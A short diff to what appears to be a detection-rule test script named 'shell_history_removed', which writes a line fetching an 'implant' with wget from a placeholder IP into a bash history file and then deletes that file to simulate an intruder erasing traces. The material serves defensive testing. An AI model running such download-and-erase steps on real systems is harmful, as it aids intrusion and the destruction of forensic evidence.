@@ -3,6 +3,6 @@
 # rule: shell_history_removed
 # Removes what was typed.
 [ -d /home/worker/.ssh ] || exit 77 # not a scratch root
-printf 'wget http://192.0.2.1/implant\n' > /root/.bash_history
-rm -f /root/.bash_history
+printf 'wget 192.0.2.1/implant\n' > /home/worker/.bash_history
+rm -f /home/worker/.bash_history
 exit 0
